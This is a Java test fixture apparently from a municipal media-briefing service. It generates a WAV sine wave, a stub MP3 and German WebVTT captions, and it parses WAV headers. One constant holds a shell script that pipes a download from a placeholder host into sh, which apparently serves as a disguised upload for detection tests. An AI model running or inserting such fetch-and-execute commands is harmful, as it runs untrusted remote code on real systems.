package de.lagezentrum.briefing.media;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;

/** Recordings made in the test: a sine wave as WAV (PCM, mono, 16 bit), and content that only looks like one. */
public final class TestRecordings {

    public static final int SAMPLE_RATE = 8000;

    /** A script named like a recording. */
    public static final byte[] SCRIPT = "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"
            .getBytes(StandardCharsets.UTF_8);

    /** Captions with three cues, at 0–2 s, 2–4 s and 4–6 s. */
    public static final String CAPTIONS = """
            WEBVTT

            1
            00:00.000 --> 00:02.000
            Guten Morgen aus dem Rathaus.

            2
            00:02.000 --> 00:04.000
            <v Oberbürgermeisterin>Die Unterkünfte sind zu 80 Prozent belegt.

            3
            00:04.000 --> 00:06.000
            Fragen bitte über die Pressestelle.
            """;

    private TestRecordings() {
    }

    /** A 440 Hz sine wave of the given length as WAV. */
    public static byte[] wav(double seconds) {
        int samples = (int) Math.round(seconds * SAMPLE_RATE);
        ByteBuffer wav = ByteBuffer.allocate(44 + samples * 2).order(ByteOrder.LITTLE_ENDIAN);
        wav.put(ascii("RIFF")).putInt(36 + samples * 2).put(ascii("WAVE"));
        wav.put(ascii("fmt ")).putInt(16).putShort((short) 1).putShort((short) 1).putInt(SAMPLE_RATE)
                .putInt(SAMPLE_RATE * 2).putShort((short) 2).putShort((short) 16);
        wav.put(ascii("data")).putInt(samples * 2);
        for (int i = 0; i < samples; i++) {
            wav.putShort((short) (Math.sin(2 * Math.PI * 440 * i / SAMPLE_RATE) * 12_000));
        }
        return wav.array();
    }

    /** An MP3 as Tika knows it: an ID3 tag, then MPEG audio frame headers. */
    public static byte[] mp3() {
        ByteArrayOutputStream mp3 = new ByteArrayOutputStream();
        mp3.writeBytes(new byte[] {'I', 'D', '3', 3, 0, 0, 0, 0, 0, 0});
        for (int frame = 0; frame < 40; frame++) {
            byte[] bytes = new byte[417];
            bytes[0] = (byte) 0xFF;
            bytes[1] = (byte) 0xFB;
            bytes[2] = (byte) 0x90;
            bytes[3] = (byte) 0x64;
            mp3.writeBytes(bytes);
        }
        return mp3.toByteArray();
    }

    /** The header of a WAV file as a test reads it. */
    public record WavHeader(String riff, long riffSize, String wave, int format, int channels, int sampleRate,
            int blockAlign, long dataSize, int dataOffset) {

        /** Its length in seconds. */
        public double seconds() {
            return (double) dataSize / blockAlign / sampleRate;
        }
    }

    /** Reads the canonical header (fmt chunk, then data) of a WAV file. */
    public static WavHeader header(byte[] wav) {
        ByteBuffer buffer = ByteBuffer.wrap(wav).order(ByteOrder.LITTLE_ENDIAN);
        int fmtSize = buffer.getInt(16);
        int data = 20 + fmtSize;
        if (!new String(wav, data, 4, StandardCharsets.US_ASCII).equals("data")) {
            throw new AssertionError("no data chunk after fmt");
        }
        return new WavHeader(new String(wav, 0, 4, StandardCharsets.US_ASCII), Integer.toUnsignedLong(buffer.getInt(4)),
                new String(wav, 8, 4, StandardCharsets.US_ASCII), buffer.getShort(20), buffer.getShort(22),
                buffer.getInt(24), buffer.getShort(32), Integer.toUnsignedLong(buffer.getInt(data + 4)), data + 8);
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
